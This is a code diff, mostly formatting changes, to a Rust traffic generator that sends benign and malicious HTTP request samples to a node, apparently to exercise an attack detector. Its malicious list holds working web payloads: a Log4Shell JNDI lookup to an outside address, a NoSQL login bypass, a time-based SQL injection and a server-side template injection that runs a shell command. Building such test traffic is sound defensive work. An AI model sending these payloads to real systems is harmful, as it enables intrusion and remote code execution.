@@ -14,8 +14,16 @@ const BENIGN: [Sample; 10] = [
     ("GET", "/api/search?q=mug%20and%20lamp", ""),
     ("GET", "/files?name=terms.txt", ""),
     ("POST", "/api/login", r#"{"user":"alice","password":"wonderland"}"#),
-    ("POST", "/api/orders", r#"{"items":[{"id":1,"quantity":2}],"note":"Please ring twice, it's the 2nd door."}"#),
-    ("POST", "/api/orders", r#"{"items":[{"id":5,"quantity":1}],"ship_to":{"name":"B. O'Neill","city":"Cork"}}"#),
+    (
+        "POST",
+        "/api/orders",
+        r#"{"items":[{"id":1,"quantity":2}],"note":"Please ring twice, it's the 2nd door."}"#,
+    ),
+    (
+        "POST",
+        "/api/orders",
+        r#"{"items":[{"id":5,"quantity":1}],"ship_to":{"name":"B. O'Neill","city":"Cork"}}"#,
+    ),
     ("GET", "/health", ""),
 ];
 
@@ -30,7 +38,11 @@ const MALICIOUS: [Sample; 10] = [
     ("POST", "/api/orders", r#"{"items":[],"note":"${jndi:ldap://203.0.113.9/a}"}"#),
     ("POST", "/api/login", r#"{"user":{"$ne":null},"password":{"$ne":null}}"#),
     ("GET", "/api/products/1%27%20AND%20SLEEP(5)--%20-", ""),
-    ("POST", "/api/orders", r#"{"note":"{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}"#),
+    (
+        "POST",
+        "/api/orders",
+        r#"{"note":"{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}"#,
+    ),
 ];
 
 /// Sends each benign request twice and each malicious one twice, a few per second, then ends.
@@ -41,7 +53,8 @@ pub(super) async fn send(node_url: String) {
         for (benign, malicious) in BENIGN.iter().zip(&MALICIOUS) {
             for (method, path, body) in [benign, malicious] {
                 pace.tick().await;
-                let mut request = client.request(method.parse().unwrap_or_default(), format!("{node_url}{path}"));
+                let mut request =
+                    client.request(method.parse().unwrap_or_default(), format!("{node_url}{path}"));
                 if !body.is_empty() {
                     request = request.header("Content-Type", "application/json").body(*body);
                 }
